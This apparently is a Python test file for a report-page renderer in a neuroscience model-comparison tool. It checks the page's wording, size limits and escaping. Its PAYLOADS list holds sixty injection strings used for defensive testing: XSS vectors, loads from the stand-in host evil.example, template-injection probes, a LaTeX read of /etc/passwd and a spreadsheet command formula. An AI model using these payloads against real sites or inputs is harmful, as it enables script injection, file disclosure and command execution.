"""The page: what it says, what it may not hold, and how large it is."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from neuroai.errors import DataError
from neuroai.format.results import Results
from neuroai.format.scores import Score
from neuroai.reports import page as page_module
from neuroai.reports.page import MAX_BYTES, render, write_page
from neuroai.reports.verdict import verdicts

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "<svg onload=alert(1)>",
    "</svg><script>alert(1)</script>",
    "</svg><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ config }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$\\frac{1}{0}$",
    "$unclosed mathematics",
    "\\input{/etc/passwd}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;&quot;&apos;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3e",
    "\u202egnp.exe",
    "\x1b]0;title\x07",
    "\x00<script>alert(1)</script>",
    "a\nb\r\n<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "猫と🐈\u200d⬛<b>bold</b>",
    "=cmd|'/C calc'!A0",
)
REMOTE = ("src", "href", "xlink:href", "action", "data", "srcset", "poster", "formaction")
LOCAL = ("#", "data:image/png;base64,", "scores.csv", "scores.nc", "provenance.json")


class Elements(HTMLParser):
    """Collect the elements of a page and their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self.words: list[str] = []
        self._open = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self._open = tag
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Note words, or a style sheet."""
        (self.styles if self._open == "style" else self.words).append(data)

    def handle_endtag(self, tag: str) -> None:
        """Note the end of an element."""
        self._open = ""

    @property
    def text(self) -> str:
        """All words of the page."""
        return " ".join(" ".join(self.words).split())


@pytest.fixture(scope="module")
def html(results: Results) -> str:
    """Give the page of ordinary results."""
    return render(results)


@pytest.fixture(scope="module")
def text(html: str) -> str:
    """Give the words of the page of ordinary results."""
    return Elements(html).text


def hostile_name(used: dict[str, str]):
    """Give a function that adds to every new name the next payload."""

    def name(text: str) -> str:
        return used.setdefault(text, f"{text}{PAYLOADS[len(used) % len(PAYLOADS)]}")

    return name


def assert_harmless(elements: Elements) -> None:
    """Assert that a page holds no script, no handler and no address outside the file."""
    tags = {tag for tag, _ in elements.found}
    forbidden = {"script", "iframe", "object", "embed", "base", "link", "form", "img", "video"}
    assert not tags & forbidden
    for tag, attrs in elements.found:
        assert not [key for key in attrs if key.startswith("on")], (tag, attrs)
        for key in REMOTE:
            assert attrs.get(key) is None or attrs[key].startswith(LOCAL), (tag, attrs)
        assert "url(" not in (attrs.get("style") or "").replace("url(#", ""), (tag, attrs)


def test_sixty_payloads_stay_text(make_results, html) -> None:
    """Hostile names of everything leave the page's elements and style sheet as they were."""
    used: dict[str, str] = {}
    results = make_results(name=hostile_name(used))
    assert len(PAYLOADS) == 60
    assert len(used) >= len(PAYLOADS), "every payload must be in use"
    hostile, benign = Elements(render(results)), Elements(html)
    assert_harmless(hostile)
    assert {tag for tag, _ in hostile.found} == {tag for tag, _ in benign.found}
    assert hostile.styles == benign.styles
    assert "<script>alert(1)</script>" in hostile.text
    assert "{{7*7}}" in hostile.text


def test_page_is_one_harmless_file(html) -> None:
    """An ordinary page loads nothing and forbids everything by its policy."""
    elements = Elements(html)
    assert_harmless(elements)
    policies = [a["content"] for t, a in elements.found if a.get("http-equiv")]
    assert policies == [
        "default-src 'none'; style-src 'unsafe-inline'; img-src data:; "
        "base-uri 'none'; form-action 'none'"
    ]
    assert "http://" not in html


def test_page_says_what_was_found(text) -> None:
    """The verdict holds value, interval, ceiling, p, counts and unit of inference."""
    assert "0.330" in text and "0.290 to 0.370" in text
    assert "noise ceiling 0.379 to 0.600" in text
    assert "p .001 (stimulus labels, 1,000 draws)" in text
    assert "92 stimuli, 4 brain subjects, 1 network seed" in text
    assert "unit of inference stimuli and subjects; uncalibrated with so few" in text
    assert "layer chosen on other stimuli than those it is scored on" in text
    assert "clearest of 2 dose curves, p not corrected for that choice" in text
    assert "0.330 below the noise ceiling resnet net.layer.5 against IT" in text


def test_page_says_what_was_not_measurable(text) -> None:
    """What one side could not answer, and scores without a value, are spelt out."""
    assert "Lesion of V1 , human: not measurable — no lesions were made" in text
    assert "not measurable: no cue-conflict images" in text
    assert "undefined: a layer without variance" in text
    assert " nan" not in text.lower()


def test_page_shows_all_sections(text) -> None:
    """Truth, audit, methods, citations, provenance, limits and files are on the page."""
    for words in (
        "Planted and recovered",
        "✗ no",
        "3 constant units were excluded in s2",
        "6 of 113 scores have an uncalibrated interval",
        "Layers are chosen on one half",
        "doi:10.1016/j.neuron.2008.10.043",
        "versions.torch 2.13.0",
        "neuroai compare toy2020",
        "A high score is not a mechanism",
        "provenance.json",
        "Localiser: face > rest",
        "Lesions: rdm match",
    ):
        assert words in text, words


def test_simulated_brain_is_said_only_where_true(make_results, text) -> None:
    """The banner stands on a simulated brain's page and on no other."""
    assert "Simulated brain:" in text
    real = Elements(render(make_results(simulated=False))).text
    assert "Simulated brain" not in real


def test_audit_is_amber_only_when_something_is_wrong(results: Results, html) -> None:
    """A clean audit box is not amber."""

    def box(page: str) -> str:
        return next(a["class"] for _, a in Elements(page).found if a.get("id") == "audit")

    clean = replace(results, audit=("92 of 92 stimuli are shared",), scores=(), answers=())
    assert box(html) == "audit beware"
    assert box(render(clean)) == "audit"


def test_every_figure_has_words_and_numbers(html) -> None:
    """Every picture has a label for those who do not see it, a caption and a table."""
    labels = [a.get("aria-label") for t, a in Elements(html).found if a.get("class") == "plot"]
    assert len(labels) == 24
    assert all(label and len(label) > 20 for label in labels)
    assert html.count("<figcaption>") == html.count("<summary>Numbers</summary>") == len(labels)


def test_page_is_the_same_every_time(make_results, html) -> None:
    """Equal results give equal bytes."""
    assert render(make_results()) == html


def test_large_comparison_stays_below_five_megabytes(make_results, tmp_path) -> None:
    """28 layers of three networks and 92 stimuli fit, with their tables."""
    results = make_results(n_layers=28, n_stimuli=92, networks=("a", "b", "c"))
    path = write_page(results, tmp_path / "report.html")
    assert path.stat().st_size <= MAX_BYTES
    assert "left out, to keep this page" not in path.read_text(encoding="utf-8")


def test_tables_give_way_to_the_limit(results: Results, html, tmp_path, monkeypatch) -> None:
    """A page that is too large loses its tables, says so, and else is refused."""
    monkeypatch.setattr(page_module, "MAX_BYTES", len(html.encode()) - 1)
    path = write_page(results, tmp_path / "report.html")
    assert "left out, to keep this page" in path.read_text(encoding="utf-8")
    monkeypatch.setattr(page_module, "MAX_BYTES", 1000)
    with pytest.raises(DataError, match="fewer regions or models"):
        write_page(results, tmp_path / "other.html")
    assert not (tmp_path / "other.html").exists()


def test_empty_results_make_a_page(tmp_path) -> None:
    """A comparison without anything still gives a page that says so."""
    path = write_page(
        Results(title="nothing", dataset="none", simulated=False, scores=()), tmp_path / "r.html"
    )
    text = Elements(path.read_text(encoding="utf-8")).text
    assert "No network was scored against this brain." in text
    assert "Nothing was asked at this level." in text


def score(metric: str, **more: object) -> Score:
    """Give one score of behaviour."""
    given = {"brain_region": "", "model": "", "analysis": "accuracy: digit", **more}
    return Score(
        "computation",
        metric=metric,
        dataset="data",
        stimulus_set="set",
        model_region="behaviour",
        **given,
    )


def test_own_values_are_one_figure() -> None:
    """What each system reaches by itself is no headline; brain and networks share a figure."""
    scores = (
        score("value", model="net", value=0.958),
        score("value", brain_region="monkey", value=0.934, note="pooled over subjects 0.9310"),
    )
    page = render(Results(title="t", dataset="d", simulated=False, scores=scores))
    text = Elements(page).text
    assert "No network was scored against this brain." in text
    assert 'aria-label="accuracy on digit: monkey 0.934; net 0.958"' in page
    assert "pooled over subjects 0.9310" in text
    assert page.count('class="plot"') == 1


def test_lower_reference_is_not_called_a_ceiling() -> None:
    """Where only another subject's score is known, verdict and figure say that."""
    one = score(
        "error-consistency",
        analysis="choices: digit",
        brain_region="brain behaviour",
        model="net",
        value=0.3,
        ci_low=0.2,
        ci_high=0.4,
        ceiling_low=0.503,
    )
    page = render(Results(title="t", dataset="d", simulated=False, scores=(one,)))
    text = Elements(page).text
    assert "below another subject" in text and "another subject reaches 0.503" in text
    assert "no upper noise ceiling is known" in text
    assert "layer behaviour" not in text


def test_averaged_rdms_are_no_headline() -> None:
    """Scores of averaged RDMs stand among the further metrics alone."""
    kept = Score("algorithm", "rdm", "rdm-spearman", "d", "s", "IT", "net", "fc", value=0.222)
    mean = replace(kept, analysis="score_of_mean_rdm", value=0.312)
    results = Results(title="t", dataset="d", simulated=False, scores=(mean, kept))
    assert [verdict.value for verdict in verdicts(results)] == ["0.222"]
    assert "Further metrics and questions (1 figure)" in Elements(render(results)).text


def test_verdict_is_of_a_network_that_was_asked() -> None:
    """A published network may be better; the verdict is of the one that was asked."""
    asked = Score("algorithm", "rdm", "rdm-spearman", "d", "s", "IT", "net", "fc", value=0.2)
    scores = (replace(asked, model="published", value=0.4), asked)
    results = Results(title="t", dataset="d", simulated=False, scores=scores)
    named = replace(results, provenance={"models": [{"name": "net"}]})
    assert [verdict.model for verdict in verdicts(named)] == ["net"]
    assert [verdict.model for verdict in verdicts(results)] == ["published"]
